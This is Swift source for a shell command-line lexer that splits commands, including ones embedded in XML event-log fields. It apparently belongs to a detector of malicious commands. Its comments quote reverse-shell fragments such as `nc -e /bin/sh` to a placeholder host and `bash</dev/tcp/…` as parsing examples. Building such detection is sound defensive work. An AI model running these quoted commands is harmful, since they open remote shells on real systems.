import Bytes

/// One simple command of a command line: words up to `;`, `|`, `&&`, a newline, a bracket or a quote mark around code.
///
/// Quotes are no words here but borders, for what stands in quotes after `-c`, `-e` or `EXEC:` is a command of its own.
/// So `sh -c "nc -e /bin/sh h 1"` gives two: `sh -c` and `nc -e /bin/sh h 1`.
struct SimpleCommand {
  /// Places begin at 0. Valid as long as the line.
  let words: WordRun
  /// What ended it: `|`, `;`, `&`, a quote, a bracket; 0 at the end of the text.
  let end: UInt8
  /// What stood before it.
  let before: UInt8
  let range: Range<Int>

  func word(_ index: Int) -> ByteView { words[index] }
}

/// Shell text split into simple commands, tolerant of anything: a lexer's view, not a grammar's.
///
/// All words lie in one stretch of memory, and commands borrow theirs: a hostile text has thousands of commands of one
/// word, and a list for each would cost more than all else that is done with them.
final class ShellLine {
  /// Longer command lines are generated code; only so many commands are looked at.
  static let maximumCommands = 4096

  let commands: [SimpleCommand]
  private let storage: WordStorage

  init(_ text: ByteView) {
    var storage = WordStorage(capacity: text.count / 8 + 8)
    commands = Self.split(text, into: &storage)
    self.storage = storage
  }

  deinit { storage.deallocate() }

  /// All that may end a word or a command, or part a path.
  private static let borders = ByteSet("\0\t\n\r !\"&'()/;<>\\`|")

  private static func split(_ text: ByteView, into storage: inout WordStorage) -> [SimpleCommand] {
    var borders = BytePlaces(of: borders, in: text)
    var commands: [SimpleCommand] = []
    commands.reserveCapacity(min(text.count / 16, 512))
    var wordStart = 0
    var (slash, backslash) = (-1, -1)
    var start = 0
    var before: UInt8 = 0
    func endWord(_ place: Int) {
      guard place > wordStart else { return }
      if backslash >= wordStart, backslash >= place - 2 {
        // `sh\n"`, `sh\"`: the end of a text within a text.
        let word = withoutEscapes(text.slice(wordStart, place))
        storage.add(ShellWord(text: word, name: ShellWords.baseName(word)))
        return
      }
      let word = text.slice(wordStart, place)
      let mark = slash >= wordStart ? slash : backslash
      storage.add(ShellWord(text: word, name: mark >= wordStart ? text.slice(mark + 1, place) : word))
    }
    func endCommand(_ place: Int, _ byte: UInt8) {
      commands.append(SimpleCommand(words: storage.take(), end: byte, before: before, range: start..<place))
    }
    var place = 0
    while commands.count < maximumCommands {
      place = borders.next(from: place)
      guard place < text.count else { break }
      let byte = text[place]
      switch byte {
      case 0x2F: slash = place
      case 0x5C: backslash = place
      case 0x20, 0x09, 0x0D, 0x00:
        endWord(place)
        wordStart = place + 1
        // Two zero bytes end what lies in memory; one parts a process's arguments.
        if byte == 0, text[place - 1] == 0, place > 0 {
          if storage.hasWords { endCommand(place, 0x0A) }
          before = 0x0A
          start = place + 1
        }
      case 0x21:
        // `!nc …` of a pager, `:!nc …` of an editor: what follows is the command.
        if wordStart == place || wordStart == place - 1 && text[wordStart] == 0x3A { wordStart = place + 1 }
      case 0x26
      where text[place - 1] == 0x3E || text[place - 1] == 0x3C || text[place + 1] == 0x3E && text[place + 1] != 0x26:
        // >&, <&, &> are redirections.
        break
      case 0x3C:
        if text[place + 1] == 0x2F, let end = closingTagEnd(text, place) {
          // `nc … </Data>`
          endWord(place)
          if storage.hasWords { endCommand(place, 0x0A) }
          place = end
          before = 0x0A
          wordStart = place + 1
          start = wordStart
        } else if place == wordStart || text[place - 1] == 0x3E {
          // `<string>bash -i …`
          if let end = tagEnd(text, place) {
            endWord(place)
            place = end
            wordStart = place + 1
          }
        } else if ShellWords.isShell(text.slice(wordStart, place)) {
          // `bash</dev/tcp/…`: the redirection is a word of its own.
          endWord(place)
          wordStart = place
        }
      case 0x3E:
        // `bash>/tmp/f`
        if place > wordStart, ShellWords.isShell(text.slice(wordStart, place)) {
          endWord(place)
          wordStart = place
        } else if place == wordStart, text[place - 1] == 0x22,
          commands.dropLast().last.map({ isTag($0.words[0]) }) == true
        {
          // `<Data Name="CommandLine">nc …`
          wordStart = place + 1
        }
      default:
        endWord(place)
        wordStart = place + 1
        // `2>&1|&` and `||`: the second sign belongs to the first.
        if storage.hasWords {
          endCommand(place, byte)
          before = byte
        } else if byte != 0x22 && byte != 0x27 || before == 0 {
          before = byte
        }
        start = place + 1
      }
      place += 1
    }
    endWord(text.count)
    if storage.hasWords { endCommand(text.count, 0) }
    return commands
  }

  /// Without backslashes, line ends and tabs that are written at its end; a word of nothing else stays.
  private static func withoutEscapes(_ word: ByteView) -> ByteView {
    var end = word.count
    while end > 0 {
      if word[end - 1] == 0x5C {
        end -= 1
      } else if word[end - 2] == 0x5C, isAny(word[end - 1], of: "nrt") {
        end -= 2
      } else {
        break
      }
    }
    return end > 0 ? word.slice(0, end) : word
  }

  /// `<Data`
  private static func isTag(_ word: ByteView) -> Bool {
    word[0] == 0x3C && word[1] | 0x20 >= 0x61 && word[1] | 0x20 <= 0x7A
  }

  /// Where `</Data>` ends, which unlike `</tmp/f` has no second slash.
  private static func closingTagEnd(_ text: ByteView, _ place: Int) -> Int? {
    var end = place + 2
    while end - place < 32, isWordByte(text[end]) || text[end] == 0x3A { end += 1 }
    return end > place + 2 && text[end] == 0x3E ? end : nil
  }

  /// Where a tag of XML ends that begins the text, a line or a string, or follows another.
  private static func tagEnd(_ text: ByteView, _ place: Int) -> Int? {
    guard place == 0 || isAny(text[place - 1], of: "\n>\"'") else { return nil }
    var end = place + 1
    while end - place < 32, isWordByte(text[end]) { end += 1 }
    return end > place + 1 && text[end] == 0x3E ? end : nil
  }
}
